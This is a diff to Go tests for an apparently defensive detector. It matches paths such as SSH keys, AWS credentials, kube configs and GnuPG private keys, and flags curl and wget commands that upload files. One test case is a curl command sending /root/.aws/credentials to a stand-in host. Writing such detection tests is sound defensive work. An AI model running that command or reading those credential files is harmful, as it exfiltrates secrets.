@@ -149,7 +149,13 @@ func TestMatchPath(t *testing.T) {
 	}{
 		{"aws credentials", "/root/.aws/credentials", root, "", want("file.cloud_credentials", "file.credentials")},
 		{"aws config", "/root/.aws/config", root, "", want("file.cloud_credentials")},
-		{"aws deeper than *", "/root/.aws/sso/cache/t.json", root, "", want()},
+		{"dir/* is the whole tree: aws sso token cache", "/root/.aws/sso/cache/t.json", root, "", want("file.cloud_credentials")},
+		{"dir/* is the whole tree: gnupg private key", "/root/.gnupg/private-keys-v1.d/0123ABCD.key", root, "", want("file.gnupg")},
+		{"HOME elsewhere than passwd: ssh key", "/sandbox/home/.ssh/id_ed25519", Homes{"/root", "/root", "/sandbox/home", ""}, "", want("file.ssh_key")},
+		{"HOME elsewhere than passwd: kube", "/sandbox/home/.kube/config", Homes{"/root", "/root", "/sandbox/home", ""}, "", want("file.kube")},
+		{"HOME elsewhere than passwd: aws", "/sandbox/home/.aws/credentials", Homes{"/root", "/root", "/sandbox/home", ""}, "", want("file.cloud_credentials", "file.credentials")},
+		{"container passwd home", "/home/dev/.ssh/id_rsa", Homes{"/root", "/root", "", "/home/dev"}, "", want("file.ssh_key")},
+		{"HOME elsewhere: the passwd home still counts", "/root/.ssh/id_rsa", Homes{"/root", "/root", "/sandbox/home", ""}, "", want("file.ssh_key")},
 		{"aws of another home", "/home/alice/.aws/config", root, "", want()},
 		{"ssh key of alice as alice", "/home/alice/.ssh/id_ed25519", alice, "", want("file.ssh_key")},
 		{"ssh key of alice as bob", "/home/alice/.ssh/id_ed25519", bob, "", want()},
@@ -262,7 +268,7 @@ func TestMatchExec(t *testing.T) {
 		{"curl -d inline data", "/usr/bin/curl", []string{"curl", "-d", `{"a":1}`, "http://h/"}, "/root", want("binary.transfer"), facts{}},
 		{"curl -o out", "/usr/bin/curl", []string{"curl", "-o", "@weird", "http://h/"}, "/root", want("binary.transfer"), facts{}},
 		{"curl -H with @", "/usr/bin/curl", []string{"curl", "-H", "X-Who: @me", "http://h/"}, "/root", want("binary.transfer"), facts{}},
-		{"curl upload of a sensitive file", "/usr/bin/curl", []string{"curl", "--data-binary", "@/root/.aws/credentials", "http://h/"}, "/root", want("binary.transfer", "argv.curl_upload"), facts{stage: true, egress: true}},
+		{"curl upload of a sensitive file", "/usr/bin/curl", []string{"curl", "--data-binary", "@/root/.aws/credentials", "http://h/"}, "/root", want("binary.transfer", "argv.curl_upload", "argv.upload_sensitive"), facts{stage: true, egress: true}},
 
 		{"wget --post-file=", "/usr/bin/wget", []string{"wget", "--post-file=/tmp/x", "http://h/"}, "/root", want("binary.transfer", "argv.wget_post_file"), facts{egress: true}},
 		{"wget --post-file x", "/usr/bin/wget", []string{"wget", "--post-file", "/tmp/x", "http://h/"}, "/root", want("binary.transfer", "argv.wget_post_file"), facts{egress: true}},
